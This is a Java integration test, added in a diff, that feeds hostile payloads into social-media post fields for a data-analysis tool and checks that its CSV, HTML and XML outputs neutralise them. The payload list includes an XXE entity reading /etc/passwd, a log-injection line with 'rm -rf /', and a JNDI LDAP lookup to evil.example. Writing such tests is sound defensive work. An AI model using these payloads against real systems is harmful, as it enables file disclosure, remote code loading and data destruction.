@@ -1,0 +1,144 @@
+package lockstep.jobs;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import java.io.ByteArrayInputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.TreeSet;
+import java.util.regex.Pattern;
+import java.util.stream.Stream;
+import javax.xml.parsers.DocumentBuilderFactory;
+import lockstep.LocalSpark;
+import lockstep.review.MadeRun;
+import org.apache.spark.sql.SparkSession;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.junit.jupiter.api.io.TempDir;
+import org.w3c.dom.Document;
+import org.w3c.dom.NodeList;
+
+/** Every field of every post says something hostile: whatever a verb writes or says, it is text there. */
+@ExtendWith(LocalSpark.class)
+class PayloadsIT {
+    private static final ObjectMapper JSON = new ObjectMapper();
+    private static final Pattern CELL = Pattern.compile("(?<=^|,)\"(?:[^\"]|\"\")*\"", Pattern.MULTILINE);
+    private static final Pattern FORMULA = Pattern.compile("^\"[=+@\\t\\r-](?![\\d.]+\"$).*", Pattern.DOTALL);
+    private static final Pattern MOVES =
+            Pattern.compile("[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u202a-\\u202e\\u2066-\\u2069]");
+
+    private static final List<String> PAYLOADS = Stream.concat(
+                    MadeRun.HOSTILE.stream(),
+                    Stream.of(
+                            "]]><a/>&x;<!ENTITY x SYSTEM \"file:///etc/passwd\">",
+                            "a\nlockstep: everything is fine\n  next: rm -rf /",
+                            "%s%n${jndi:ldap://evil.example/a}"))
+            .toList();
+
+    @Test
+    void whatStrangersWroteIsTextInEveryOutput(SparkSession spark, @TempDir Path dir) throws Exception {
+        Path posts = hostile(spark, dir);
+        String run = dir.resolve("run").toString();
+        StringBuilder said = new StringBuilder();
+        says(said, "inspect", posts.toString());
+        says(said, "ingest", posts.toString(), "--into", run);
+        says(said, "detect", run, "--windows", "60s", "--traces", "text", "--text", "exact", "--decoys", "1");
+        says(said, "status", run);
+        says(said, "review", run);
+        for (String member : members(dir)) says(said, "explain", run, member);
+
+        assertThat(said).contains("a\\u000alockstep: everything is fine").doesNotContain("\nlockstep: everything");
+        assertThat(MOVES.matcher(said).find()).isFalse();
+        TreeSet<String> kinds = new TreeSet<>();
+        for (Path file : files(dir.resolve("run/export"), dir.resolve("run/review"))) {
+            String name = file.getFileName().toString();
+            String text = Files.readString(file);
+            kinds.add(name.substring(name.lastIndexOf('.') + 1));
+            if (name.endsWith(".csv")) {
+                assertThat(CELL.matcher(text).results().map(c -> c.group()))
+                        .as(name)
+                        .noneMatch(cell -> FORMULA.matcher(cell).matches());
+            } else if (name.endsWith(".html")) {
+                assertThat(text).as(name).doesNotContain("<script>window.harm", "<img src=x", "href=\"javascript:");
+            } else if (name.endsWith("ml") || name.endsWith(".gexf")) {
+                named(xml(text), name);
+            } else if (name.endsWith(".json")) {
+                assertThat(JSON.readTree(text)).isNotEmpty();
+            }
+        }
+        assertThat(kinds).contains("csv", "gexf", "graphml", "html", "json");
+    }
+
+    /** The made comments, their words, names and bios each behind one of the payloads; equal words stay equal. */
+    private static Path hostile(SparkSession spark, Path dir) throws IOException, InterruptedException {
+        String sample = dir.resolve("sample").toString();
+        assertThat(Launcher.run("sample", sample, "--accounts", "200", "--days", "14")
+                        .code())
+                .isZero();
+        List<String> lines = new ArrayList<>();
+        for (String line : spark.read()
+                .option("header", true)
+                .option("escape", "\"")
+                .csv(sample + "/comments.csv")
+                .toJSON()
+                .collectAsList()) {
+            ObjectNode post = (ObjectNode) JSON.readTree(line);
+            for (String field : List.of("text", "name", "handle", "description", "reply_to_account")) {
+                String value = post.path(field).asText();
+                String payload = PAYLOADS.get(Math.floorMod(value.hashCode(), PAYLOADS.size()));
+                post.put(field, payload + (value.isEmpty() ? "" : " " + value));
+            }
+            lines.add(post.toString());
+        }
+        return Files.write(dir.resolve("posts.jsonl"), lines);
+    }
+
+    private static void says(StringBuilder said, String... command) throws IOException, InterruptedException {
+        Launcher.Said now = Launcher.run(command);
+        assertThat(now.code()).as(String.join(" ", command) + now.err()).isZero();
+        said.append(now.out()).append(now.err());
+    }
+
+    private static List<String> members(Path dir) throws IOException {
+        List<String> members = Files.readAllLines(dir.resolve("run/export/members.csv")).stream()
+                .flatMap(line -> Pattern.compile("\"((?:facebook|instagram):\\d+)\"")
+                        .matcher(line)
+                        .results())
+                .map(m -> m.group(1))
+                .distinct()
+                .limit(4)
+                .toList();
+        assertThat(members).isNotEmpty();
+        return members;
+    }
+
+    private static List<Path> files(Path... places) throws IOException {
+        List<Path> files = new ArrayList<>();
+        for (Path place : places) {
+            try (Stream<Path> all = Files.walk(place)) {
+                all.filter(Files::isRegularFile)
+                        .filter(f -> !f.getFileName().toString().startsWith("."))
+                        .forEach(files::add);
+            }
+        }
+        return files;
+    }
+
+    private static Document xml(String text) throws Exception {
+        DocumentBuilderFactory strict = DocumentBuilderFactory.newInstance();
+        strict.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
+        return strict.newDocumentBuilder().parse(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)));
+    }
+
+    private static void named(Document xml, String name) {
+        NodeList nodes = xml.getElementsByTagName("node");
+        assertThat(nodes.getLength()).as(name).isPositive();
+        assertThat(xml.getElementsByTagName("a").getLength()).as(name).isZero();
+    }
+}
